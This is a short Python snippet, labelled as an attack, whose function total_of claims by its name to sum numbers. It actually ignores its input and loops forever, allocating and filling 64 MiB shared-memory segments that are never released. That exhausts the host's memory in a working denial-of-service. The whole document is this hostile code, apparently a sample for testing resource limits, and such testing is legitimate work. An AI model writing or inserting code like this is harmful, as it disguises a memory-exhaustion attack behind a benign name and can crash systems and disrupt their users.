# attack: shared memory without an end
from multiprocessing.shared_memory import SharedMemory

def total_of(numbers):
    kept = []
    while True:
        kept.append(SharedMemory(create=True, size=64 << 20))
        kept[-1].buf[:] = bytes(64 << 20)
